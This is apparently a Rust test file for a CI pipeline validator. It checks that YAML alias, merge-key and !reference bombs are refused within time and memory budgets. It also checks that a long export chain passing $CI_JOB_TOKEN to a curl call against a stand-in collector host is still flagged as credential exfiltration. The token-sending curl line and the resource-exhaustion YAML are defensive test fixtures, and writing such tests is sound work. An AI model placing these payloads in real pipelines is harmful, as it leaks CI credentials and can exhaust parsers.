//! Hostile YAML: an alias bomb (billion laughs), a merge-key bomb and a `!reference` bomb are
//! each refused quickly, by their budget, without the process growing. Kept in its own test
//! binary so the peak-memory reading is not shared with other tests.

use pipewright_core::validate::{validate_pipeline, ValidatorSettings};
use std::time::{Duration, Instant};

/// Peak resident memory of this process so far, in KiB (Linux only).
fn peak_rss_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Validates `text` and checks: refused by `rule`, in well under a second, and peak memory
/// grew by less than 64 MiB.
fn assert_refused(text: &str, rule: &str) {
    let before = peak_rss_kib();
    let started = Instant::now();
    let findings = validate_pipeline(text, &ValidatorSettings::default());
    let elapsed = started.elapsed();
    assert!(
        findings.iter().any(|f| f.rule == rule),
        "expected {rule}, got {findings:#?}"
    );
    assert!(elapsed < Duration::from_secs(1), "took {elapsed:?}");
    if let (Some(b), Some(a)) = (before, peak_rss_kib()) {
        assert!(
            a.saturating_sub(b) < 64 * 1024,
            "peak RSS grew by {} KiB",
            a - b
        );
    }
}

#[test]
fn billion_laughs_is_refused_by_the_alias_budget() {
    // Ten levels of nine aliases: 9^10 (3.5 billion) nodes if expanded.
    let mut text = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let mut prev = "a".to_string();
    for level in 0..10 {
        let name = format!("l{level}");
        let refs = vec![format!("*{prev}"); 9].join(",");
        text.push_str(&format!("{name}: &{name} [{refs}]\n"));
        prev = name;
    }
    assert_refused(&text, "yaml-alias-budget");
}

#[test]
fn merge_key_bomb_is_refused_by_the_alias_budget() {
    let mut text =
        String::from(".a0: &a0 {k0: v, k1: v, k2: v, k3: v, k4: v, k5: v, k6: v, k7: v}\n");
    for level in 1..12 {
        let p = level - 1;
        text.push_str(&format!(
            ".a{level}: &a{level}\n  x: {{<<: *a{p}}}\n  y: {{<<: *a{p}}}\n  z: {{<<: *a{p}}}\n  w: {{<<: *a{p}}}\n"
        ));
    }
    assert_refused(&text, "yaml-alias-budget");
}

#[test]
fn reference_bomb_is_refused_by_its_budget() {
    let items: String = (0..2000).map(|i| format!("    - echo {i}\n")).collect();
    let mut text = format!(".big:\n  script:\n{items}job:\n  script:\n");
    for _ in 0..500 {
        text.push_str("    - !reference [.big, script]\n");
    }
    assert_refused(&text, "yaml-alias-budget");
}

/// A job passing `$CI_JOB_TOKEN` down `lines` exports to a `curl` outside; `reversed` writes
/// the last export first, the order that made the old fixpoint read every line once per line.
fn export_chain(lines: usize, reversed: bool) -> String {
    let mut exports: Vec<String> = (1..lines)
        .map(|i| format!("    - export V{i}=\"$V{}\"\n", i - 1))
        .collect();
    if reversed {
        exports.reverse();
    }
    let mut t = String::from(
        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n    - export V0=\"$CI_JOB_TOKEN\"\n",
    );
    t.extend(exports);
    t.push_str(&format!(
        "    - 'curl -H \"X-Token: $V{}\" https://collector.example.com'\n",
        lines - 1
    ));
    t
}

#[test]
fn a_six_thousand_line_export_chain_is_traced_in_either_order() {
    // Quadratic tracing took minutes here (2,000 reversed lines: 9 s in release); linear
    // takes well under a second. The bound is loose for slow debug builds on a busy machine.
    for reversed in [false, true] {
        let text = export_chain(6_000, reversed);
        let started = Instant::now();
        let findings = validate_pipeline(&text, &ValidatorSettings::default());
        let elapsed = started.elapsed();
        let exfil: Vec<_> = findings
            .iter()
            .filter(|f| f.rule == "credential-exfiltration")
            .collect();
        assert_eq!(exfil.len(), 1, "reversed={reversed}: {findings:#?}");
        assert!(
            exfil[0].message.contains("$V5999 (from $CI_JOB_TOKEN)"),
            "{}",
            exfil[0].message
        );
        assert!(
            elapsed < Duration::from_secs(20),
            "reversed={reversed}: {elapsed:?}"
        );
    }
}

#[test]
fn cancelled_tracing_stops_early() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    let text = export_chain(2_000, true);
    let flag = Arc::new(AtomicBool::new(false));
    flag.store(true, Ordering::Relaxed);
    let findings = pipewright_core::cancel::with_flag(flag, || {
        validate_pipeline(&text, &ValidatorSettings::default())
    });
    assert!(
        !findings.iter().any(|f| f.rule == "credential-exfiltration"),
        "the tracing stopped before reaching the curl: {findings:#?}"
    );
    // Outside the flag nothing is cancelled.
    let findings = validate_pipeline(&text, &ValidatorSettings::default());
    assert!(findings.iter().any(|f| f.rule == "credential-exfiltration"));
}
